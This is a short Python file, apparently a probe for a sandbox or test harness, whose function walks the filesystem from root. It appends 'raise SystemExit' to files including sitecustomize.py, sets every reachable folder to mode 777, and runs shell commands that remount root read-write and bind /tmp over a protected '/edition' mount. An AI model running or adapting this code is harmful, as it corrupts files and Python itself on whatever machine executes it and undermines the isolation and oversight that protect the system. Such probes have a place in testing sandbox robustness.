"""Writes into every folder and over every file that it can reach, the edition's and Python's included."""

import contextlib


def cell():
    import os

    for place, folders, files in os.walk("/"):
        if place.startswith("/proc") or place.count("/") > 6:
            folders.clear()
            continue
        for name in (*files[:3], "canary", "sitecustomize.py"):
            try:
                with open(os.path.join(place, name), "ab") as file:
                    file.write(b"\nraise SystemExit\n")
            except OSError:
                pass
        with contextlib.suppress(OSError):
            os.chmod(place, 0o777)
    os.system("mount -o remount,rw / ; mount -o remount,rw /edition ; umount /edition ; mount --bind /tmp /edition")
